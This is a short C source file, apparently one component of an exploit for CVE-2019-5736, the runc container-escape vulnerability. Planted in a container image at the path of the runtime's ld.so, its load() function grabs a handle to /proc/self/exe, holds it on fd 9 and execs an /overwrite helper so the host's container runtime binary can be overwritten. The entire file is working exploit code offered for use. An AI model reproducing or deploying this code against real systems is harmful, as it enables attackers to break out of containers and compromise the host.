/* loader: an ld.so that gets hold of the program it was to load (CVE-2019-5736)
 *
 * usage: none; it lies in an image at the path of the runtime's own ld.so
 *
 * Where an image lets the runtime's binary run by #!/proc/self/exe, the kernel starts this in its place.
 * Opens /proc/self/exe with O_PATH, prints "hold ok" and becomes /overwrite, as the library of overwrite.c
 * does. Without a libc that starts: the kernel tells it of the program headers of another program.
 */
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { HELD = 9 };

[[gnu::noreturn]] void load(void);

void load(void)
{
	const char *const argv[] = { "/overwrite", "/proc/self/fd/9", NULL };

	syscall(SYS_dup3, syscall(SYS_openat, AT_FDCWD, "/proc/self/exe", O_PATH), HELD, 0);
	syscall(SYS_write, STDOUT_FILENO, "hold ok\n", 8);
	syscall(SYS_execve, argv[0], argv, argv + 2);
	for (;;)
		syscall(SYS_exit_group, 1);
}
